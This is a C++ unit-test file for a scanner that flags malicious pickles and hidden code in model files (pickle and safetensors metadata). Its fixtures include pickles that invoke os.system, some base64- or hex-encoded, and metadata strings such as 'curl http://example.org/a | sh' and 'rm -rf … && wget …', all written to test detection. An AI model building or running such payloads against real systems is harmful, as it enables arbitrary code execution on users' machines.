#include "loading/carried.h"

#include <fmt/format.h>
#include <gtest/gtest.h>

#include "formats/pickle/builder_for_test.h"
#include "loading/look_for_test.h"

namespace day {
namespace {

using pickle::Builder;

std::string Hex(std::string_view bytes) {
  std::string text;
  for (char c : bytes) text += fmt::format("{:02x}", static_cast<unsigned char>(c));
  return text;
}
std::string Holding(std::string_view value) { return Builder().Proto(4).Raw("}").Text("key").Text(value).Raw("s").Stop().bytes(); }
std::string Safetensors(std::string_view value) {
  std::string header = fmt::format(R"({{"__metadata__": {{"key": "{}"}}}})", value);
  std::string bytes;
  for (int i = 0; i < 8; ++i) bytes += static_cast<char>(header.size() >> (8 * i));
  return bytes + header;
}
const std::string kCall = Builder().Proto(2).CallWith("os", "system", "echo").Stop().bytes();

TEST(JudgeCarried, TellsOfPicklesInValuesHoweverTheyAreSpelled) {
  for (const std::string& value : {kCall, Hex(kCall), std::string("gAJjb3MKc3lzdGVtCowEZWNob4VSLg=="), std::string("cos\nsystem\n(S'echo'\ntR.")})
    EXPECT_EQ(Told("a.pkl", Holding(value)), "pickle suspicious carried-pickle") << value;
}
TEST(JudgeCarried, FollowsThemThroughEachOther) {
  std::string value = kCall;
  for (int i = 0; i < 3; ++i) value = Holding(value);
  EXPECT_EQ(Told("a.pkl", Holding(value)), "pickle suspicious carried-pickle");
}
TEST(JudgeCarried, LeavesThoseAloneThatHoldDataAndTextsThatAreNone) {
  EXPECT_EQ(VerdictOf("a.pkl", Holding(Builder().Proto(2).Global("collections", "OrderedDict").Raw(")R").Stop().bytes())), "clean");
  EXPECT_EQ(VerdictOf("a.pkl", Holding("gAAAAABlX-not-a-pickle-at-all")), "clean");
  EXPECT_EQ(VerdictOf("a.pkl", Holding("classes\nof images\n")), "clean");
}
TEST(JudgeCarried, CallsWhatOneReaderOfPythonRunsByItsName) {
  const auto framed = [](int frame, std::string_view value) {
    Builder builder;
    builder.Proto(5).Byte(0x95).Little(static_cast<uint64_t>(frame)).Byte('B').Little(static_cast<uint32_t>(value.size())).Raw(value);
    return Told("a.pkl", builder.Stop().bytes());
  };
  const std::string hidden = std::string("\0\0", 2) + "cos\nsystem\nVecho\n\x85R" + std::string(40, 'N');
  EXPECT_EQ(framed(2, hidden), "pickle malicious carried-pickle");
  EXPECT_EQ(framed(2, std::string(60, 'N')), "pickle suspicious odd-pickle");
  EXPECT_EQ(framed(static_cast<int>(hidden.size()) + 6, hidden), "pickle clean");  // a value like any other
}
TEST(JudgeMetadata, TellsOfPrograms) {
  for (std::string_view value : {"import os; os.system('x')", "exec(base64.b64decode('eA=='))", "rm -rf /tmp/x && wget http://example.org/a",
                                 "<script>fetch('a')</script>", "__import__('os')", "from subprocess import run\\nrun('x')", "curl http://example.org/a | sh"})
    EXPECT_EQ(Told("a.safetensors", Safetensors(value)), "safetensors suspicious hidden-code") << value;
}
TEST(JudgeMetadata, TellsProseFromPrograms) {
  for (std::string_view value : {"import os is just text; eval() too", "A model for retrieval(dense) of texts", "call model.eval() before use",
                                 "see https://example.org/a.sh", "an important osmosis", "We import systems of equations"})
    EXPECT_EQ(VerdictOf("a.safetensors", Safetensors(value)), "clean") << value;
}
TEST(JudgeMetadata, TellsOfPickles) { EXPECT_EQ(Told("a.safetensors", Safetensors(Hex(kCall))), "safetensors suspicious carried-pickle"); }

}  // namespace
}  // namespace day
